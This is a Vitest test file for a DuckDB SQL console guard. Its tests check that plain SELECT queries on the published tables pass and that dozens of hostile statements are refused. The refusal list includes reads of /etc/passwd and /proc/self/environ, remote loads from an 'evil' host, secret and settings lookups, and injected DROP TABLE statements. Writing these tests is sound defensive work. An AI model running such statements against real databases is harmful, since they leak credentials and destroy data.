import { describe, expect, it } from 'vitest';
import {
	checkConsoleSql,
	checkConsoleTokens,
	MAX_CONSOLE_NESTING,
	MAX_CONSOLE_SQL_LENGTH,
	tokeniseSql,
	tokensFromDuckDB,
	type RefusalCode
} from '../../../core/queries/console-guard';

const TABLES = ['uptake', 'supply', 'inclusion', 'participation_targets', 'annex1_completeness'];
const check = (sql: string) => checkConsoleSql(sql, { tables: TABLES });

function refused(sql: string): { code: RefusalCode; subject: string } {
	const result = check(sql);
	if (result.ok) throw new Error(`accepted: ${sql}`);
	return { code: result.code, subject: result.subject };
}

describe('tokeniseSql', () => {
	const kinds = (sql: string) =>
		tokeniseSql(sql)
			.filter((t) => t.kind !== 'space')
			.map((t) => `${t.kind}:${t.text}`);

	it('keeps strings, quoted names and comments whole, with their escapes', () => {
		expect(kinds(`SELECT 'it''s; DROP', "a""b", E'x\\'y' -- c; d\n/* a /* b */ c */ 1`)).toEqual([
			'word:SELECT',
			"string:'it''s; DROP'",
			'punct:,',
			'quoted:a"b',
			'punct:,',
			"string:E'x\\'y'",
			'comment:-- c; d',
			'comment:/* a /* b */ c */',
			'number:1'
		]);
	});

	it('reads dollar-quoted strings, parameters, operators and numbers', () => {
		expect(kinds('SELECT $t$a$$b$t$, $$x$$, $1, ?, a::INT, x->>1, 1.5e3, .5, 0x1F')).toEqual([
			'word:SELECT',
			'string:$t$a$$b$t$',
			'punct:,',
			'string:$$x$$',
			'punct:,',
			'param:$1',
			'punct:,',
			'param:?',
			'punct:,',
			'word:a',
			'operator:::',
			'word:INT',
			'punct:,',
			'word:x',
			'operator:->>',
			'number:1',
			'punct:,',
			'number:1.5e3',
			'punct:,',
			'number:.5',
			'punct:,',
			'number:0x1F'
		]);
	});

	it('ends a line comment at a carriage return, as DuckDB does', () => {
		expect(kinds('SELECT 1 -- a\rDROP')).toEqual([
			'word:SELECT',
			'number:1',
			'comment:-- a',
			'word:DROP'
		]);
	});

	it('reads characters past ASCII as part of a name, a no-break space included', () => {
		expect(kinds('SELECT été\u00a0x')).toEqual(['word:SELECT', 'word:été\u00a0x']);
	});

	it('marks what is left open', () => {
		expect(tokeniseSql("SELECT 'abc").at(-1)?.kind).toBe('unterminated');
		expect(tokeniseSql('SELECT /* a /* b */').at(-1)?.kind).toBe('unterminated');
		expect(tokeniseSql('SELECT "abc').at(-1)?.kind).toBe('unterminated');
		expect(tokeniseSql('SELECT $x$abc').at(-1)?.kind).toBe('unterminated');
	});

	it('covers the text: the tokens put together give it back', () => {
		const sql = `WITH a AS (SELECT 'x' AS "y") -- c\nFROM a /* d */ SELECT *;`;
		expect(
			tokeniseSql(sql)
				.map((t) => sql.slice(t.start, t.end))
				.join('')
		).toBe(sql);
	});
});

describe('checkConsoleSql accepts one statement that reads the published tables', () => {
	const accepted: [string, string[]][] = [
		['SELECT * FROM uptake', ['uptake']],
		['select geo, sum(credentials) from UPTAKE group by geo', ['uptake']],
		['SELECT * FROM main.uptake u JOIN memory.main.supply s USING (geo)', ['supply', 'uptake']],
		['SELECT * FROM "uptake" AS u, supply WHERE u.geo = supply.geo', ['supply', 'uptake']],
		['FROM uptake SELECT geo, year LIMIT 5;', ['uptake']],
		['WITH t AS (SELECT * FROM inclusion), u(x) AS (SELECT 1) SELECT * FROM t, u', ['inclusion']],
		['WITH RECURSIVE r AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM r WHERE n < 3) FROM r', []],
		['SELECT * FROM (SELECT * FROM uptake) sub', ['uptake']],
		['SELECT * FROM (uptake JOIN supply ON uptake.geo = supply.geo)', ['supply', 'uptake']],
		['SELECT (SELECT max(year) FROM uptake) AS latest', ['uptake']],
		['SELECT * FROM uptake WHERE geo IN (FROM supply SELECT geo)', ['supply', 'uptake']],
		['SELECT exists(FROM range(3)) AS e', []],
		['SELECT * FROM range(10) r, generate_series(1, 3) g, unnest([1, 2]) x', []],
		['VALUES (1, 2), (3, 4)', []],
		['TABLE supply', ['supply']],
		['DESCRIBE uptake', ['uptake']],
		['SUMMARIZE SELECT * FROM supply', ['supply']],
		['PIVOT uptake ON year USING sum(credentials)', ['uptake']],
		[
			"SELECT extract(year FROM DATE '2020-01-01'), trim(BOTH 'x' FROM geo) FROM uptake",
			['uptake']
		],
		['SELECT substring(geo FROM 1 FOR 1) FROM uptake WHERE 1 IS NOT DISTINCT FROM 1', ['uptake']],
		["SELECT 'DROP TABLE uptake; SET x = 1; read_csv(''/etc/passwd'')' AS text", []],
		['SELECT 1 AS "read_csv", "set" FROM (SELECT 2 AS "set")', []],
		['SELECT 1 -- ; DROP TABLE uptake\n', []],
		['SELECT u.load FROM uptake u', ['uptake']],
		['(SELECT geo FROM uptake) UNION (SELECT geo FROM supply)', ['supply', 'uptake']],
		['SELECT * FROM uptake u NATURAL JOIN supply, LATERAL (SELECT u.year) l', ['supply', 'uptake']],
		['SELECT count(*) FROM uptake a, uptake b, uptake c', ['uptake']],
		['SELECT * FROM participation_targets ORDER BY gap_pp DESC, geo', ['participation_targets']],
		['SELECT 1;;', []]
	];
	it.each(accepted)('%s', (sql, tables) => {
		expect(check(sql)).toEqual({ ok: true, tables });
	});
});

describe('checkConsoleSql refuses anything else, and says why', () => {
	// At least 30 hostile statements: file and URL reads, extensions, settings, attached
	// databases, writes, the engine's own catalogue, several statements, hidden tricks.
	const hostile: [string, RefusalCode, string][] = [
		["SELECT * FROM read_csv('/etc/passwd')", 'file_read', 'read_csv'],
		["SELECT * FROM read_csv_auto('data/x.csv')", 'file_read', 'read_csv_auto'],
		["SELECT * FROM READ_PARQUET('https://example.org/x.parquet')", 'file_read', 'READ_PARQUET'],
		["SELECT * FROM read_json('x.json')", 'file_read', 'read_json'],
		["SELECT * FROM read_text('/etc/hostname')", 'file_read', 'read_text'],
		["SELECT * FROM read_blob('/etc/hostname')", 'file_read', 'read_blob'],
		["SELECT * FROM parquet_scan('x.parquet')", 'file_read', 'parquet_scan'],
		["SELECT * FROM glob('*')", 'file_read', 'glob'],
		["SELECT * FROM sniff_csv('x.csv')", 'file_read', 'sniff_csv'],
		["SELECT * FROM '/etc/passwd'", 'file_read', "'/etc/passwd'"],
		["SELECT * FROM 'https://example.org/data.csv'", 'file_read', "'https://example.org/data.csv'"],
		['SELECT * FROM "data.csv"', 'file_read', 'data.csv'],
		["SELECT * FROM uptake, 'x.parquet'", 'file_read', "'x.parquet'"],
		[
			"SELECT * FROM uptake u JOIN 'http://evil/x.csv' e ON true",
			'file_read',
			"'http://evil/x.csv'"
		],
		["SELECT (SELECT count(*) FROM read_csv('/etc/passwd'))", 'file_read', 'read_csv'],
		["SELECT * FROM uptake WHERE geo IN (FROM 'x.csv')", 'file_read', "'x.csv'"],
		["SELECT length(content) FROM read_text('/proc/self/environ')", 'file_read', 'read_text'],
		["SELECT * FROM query('DROP TABLE uptake')", 'file_read', 'query'],
		["SELECT * FROM query_table('uptake')", 'file_read', 'query_table'],
		['INSTALL httpfs', 'extension', 'INSTALL'],
		['LOAD httpfs', 'extension', 'LOAD'],
		["FORCE INSTALL spatial FROM 'http://evil'", 'extension', 'FORCE'],
		['SET enable_external_access = true', 'configuration', 'SET'],
		["SET GLOBAL s3_access_key_id = 'x'", 'configuration', 'SET'],
		['RESET lock_configuration', 'configuration', 'RESET'],
		['PRAGMA threads = 1', 'configuration', 'PRAGMA'],
		['pragma version', 'configuration', 'pragma'],
		["ATTACH 'other.db' AS other", 'attach', 'ATTACH'],
		["ATTACH ':memory:' AS m", 'attach', 'ATTACH'],
		['DETACH other', 'attach', 'DETACH'],
		['USE other', 'attach', 'USE'],
		["COPY uptake TO '/tmp/out.csv'", 'files', 'COPY'],
		["COPY (SELECT 1) TO 'x.parquet' (FORMAT parquet)", 'files', 'COPY'],
		["EXPORT DATABASE '/tmp/db'", 'files', 'EXPORT'],
		["IMPORT DATABASE '/tmp/db'", 'files', 'IMPORT'],
		['CREATE TABLE t AS SELECT * FROM uptake', 'write', 'CREATE'],
		['CREATE OR REPLACE VIEW supply AS SELECT 1', 'write', 'CREATE'],
		['INSERT INTO uptake SELECT * FROM uptake', 'write', 'INSERT'],
		['UPDATE uptake SET credentials = 0', 'write', 'UPDATE'],
		['DELETE FROM uptake', 'write', 'DELETE'],
		['DROP TABLE uptake', 'write', 'DROP'],
		['ALTER TABLE uptake RENAME TO x', 'write', 'ALTER'],
		['TRUNCATE uptake', 'write', 'TRUNCATE'],
		['WITH x AS (SELECT 1) INSERT INTO uptake SELECT * FROM x', 'write', 'INSERT'],
		['CALL pragma_version()', 'not_a_query', 'CALL'],
		['CHECKPOINT', 'not_a_query', 'CHECKPOINT'],
		['EXPLAIN ANALYZE SELECT 1', 'not_a_query', 'EXPLAIN'],
		['SHOW TABLES', 'not_a_query', 'SHOW'],
		['BEGIN TRANSACTION', 'not_a_query', 'BEGIN'],
		['SELECT 1; DROP TABLE uptake', 'multiple', 'DROP'],
		['SELECT 1; SET enable_external_access = true', 'multiple', 'SET'],
		['SELECT 1 /* ; */ ; SELECT 2', 'multiple', 'SELECT'],
		['SELECT * FROM duckdb_settings()', 'system', 'duckdb_settings'],
		['SELECT * FROM duckdb_tables', 'system', 'duckdb_tables'],
		["SELECT current_setting('enable_external_access')", 'system', 'current_setting'],
		['SELECT * FROM information_schema.tables', 'system', 'information_schema'],
		['SELECT * FROM pg_catalog.pg_class', 'system', 'pg_catalog'],
		['SELECT * FROM "duckdb_secrets"()', 'system', 'duckdb_secrets'],
		['SELECT * FROM system.main.duckdb_views', 'system', 'system'],
		["SELECT * FROM pragma_table_info('uptake')", 'system', 'pragma_table_info'],
		['SELECT * FROM secret_table', 'unknown_table', 'secret_table'],
		['SELECT * FROM other.uptake', 'unknown_table', 'other.uptake'],
		['SELECT * FROM temp.main.t', 'system', 'temp'],
		["SELECT * FROM sqlite_scan('x.db', 't')", 'system', 'sqlite_scan'],
		['SELECT * FROM test_all_types()', 'file_read', 'test_all_types'],
		['SELECT * FROM repeat_row(1, num_rows := 10)', 'table_function', 'repeat_row'],
		["SELECT * FROM (FROM 'x.csv')", 'file_read', "'x.csv'"],
		["WITH t AS (FROM 'x.csv') SELECT * FROM t", 'file_read', "'x.csv'"],
		["DESCRIBE 'x.csv'", 'file_read', "'x.csv'"],
		["SUMMARIZE read_csv('x.csv')", 'file_read', 'read_csv'],
		["PIVOT 'x.csv' ON a USING count(*)", 'file_read', "'x.csv'"],
		["SELECT count(FROM 'x.csv')", 'file_read', "'x.csv'"],
		["SELECT * FROM uptake u JOIN LATERAL 'x.csv' ON true", 'file_read', "'x.csv'"],
		["SELECT * FROM uptake WHERE geo = ANY (FROM 'x.csv')", 'file_read', "'x.csv'"],
		['SELECT * FROM x.csv', 'unknown_table', 'x.csv'],
		['SELECT 1 -- a comment\rDROP TABLE uptake', 'write', 'DROP'],
		['SELECT (1; DROP TABLE uptake)', 'multiple', 'DROP'],
		[
			'SELECT * FROM memory.information_schema.tables',
			'system',
			'memory.information_schema.tables'
		],
		['SELECT * FROM "information_schema"."tables"', 'system', 'information_schema'],
		['SELECT * FROM $1', 'file_read', '$1'],
		["SELECT 'a", 'unterminated', "'a"],
		['SELECT 1 /* never closed', 'unterminated', '/* never closed'],
		['', 'empty', ''],
		['  -- only a comment\n', 'empty', ''],
		[';', 'empty', ''],
		[
			`SELECT ${'('.repeat(MAX_CONSOLE_NESTING + 1)}1${')'.repeat(MAX_CONSOLE_NESTING + 1)}`,
			'too_deep',
			String(MAX_CONSOLE_NESTING)
		],
		[`SELECT '${'x'.repeat(MAX_CONSOLE_SQL_LENGTH)}'`, 'too_long', String(MAX_CONSOLE_SQL_LENGTH)]
	];
	it(`refuses ${hostile.length} hostile statements`, () => {
		expect(hostile.length).toBeGreaterThanOrEqual(30);
	});
	it.each(hostile)('%s', (sql, code, subject) => {
		expect(refused(sql)).toEqual({ code, subject });
	});

	it('points at the refused token', () => {
		const sql = 'SELECT *\nFROM read_csv(1)';
		const result = check(sql);
		expect(result.ok).toBe(false);
		if (!result.ok) expect(sql.slice(result.at)).toBe('read_csv(1)');
	});

	it('allows nesting up to the limit', () => {
		const nested = `SELECT ${'('.repeat(MAX_CONSOLE_NESTING - 1)}1${')'.repeat(MAX_CONSOLE_NESTING - 1)}`;
		expect(check(nested).ok).toBe(true);
	});
});

describe('tokensFromDuckDB', () => {
	// DuckDB-WASM's tokenize() output for these statements (offsets in UTF-8 bytes; types
	// 0 identifier, 1 number, 2 string, 3 operator, 4 keyword), recorded from the engine.
	it('reads names, strings and punctuation at DuckDB offsets', () => {
		const sql = `SELECT a.b, "x""y".z FROM main.uptake u(x, y) WHERE 1.5 >= 'a';`;
		const script = {
			offsets: [
				0, 7, 8, 9, 10, 12, 18, 19, 21, 26, 30, 31, 38, 39, 40, 41, 43, 44, 46, 52, 56, 59, 62
			],
			types: [4, 0, 3, 0, 3, 0, 3, 0, 4, 0, 3, 0, 0, 3, 0, 3, 0, 3, 4, 1, 3, 2, 3]
		};
		const tokens = tokensFromDuckDB(sql, script);
		expect(tokens.map((t) => `${t.kind}:${t.text}`)).toEqual([
			'word:SELECT',
			'word:a',
			'punct:.',
			'word:b',
			'punct:,',
			'quoted:x"y',
			'punct:.',
			'word:z',
			'word:FROM',
			'word:main',
			'punct:.',
			'word:uptake',
			'word:u',
			'punct:(',
			'word:x',
			'punct:,',
			'word:y',
			'punct:)',
			'word:WHERE',
			'number:1',
			'operator:>',
			"string:'",
			'punct:;'
		]);
		expect(checkConsoleTokens(tokens, { tables: TABLES })).toEqual({
			ok: true,
			tables: ['uptake']
		});
	});

	it('converts byte offsets past ASCII into string offsets', () => {
		const sql = 'SELECT été FROM x';
		// "été" is 5 bytes in UTF-8: FROM starts at byte 13, x at byte 18.
		const tokens = tokensFromDuckDB(sql, { offsets: [0, 7, 13, 18], types: [4, 0, 4, 0] });
		expect(tokens.map((t) => t.text)).toEqual(['SELECT', 'été', 'FROM', 'x']);
		expect(checkConsoleTokens(tokens, { tables: TABLES })).toMatchObject({
			ok: false,
			code: 'unknown_table',
			subject: 'x'
		});
	});

	it('sees a second statement that a lexer difference would hide', () => {
		// Were this module's lexer to read the ';' as part of a comment, DuckDB's still does not.
		const sql = 'SELECT 1 ; DROP TABLE x';
		const tokens = tokensFromDuckDB(sql, {
			offsets: [0, 7, 9, 11, 16, 22],
			types: [4, 1, 3, 4, 4, 0]
		});
		expect(checkConsoleTokens(tokens, { tables: TABLES })).toMatchObject({
			ok: false,
			code: 'multiple'
		});
	});
});
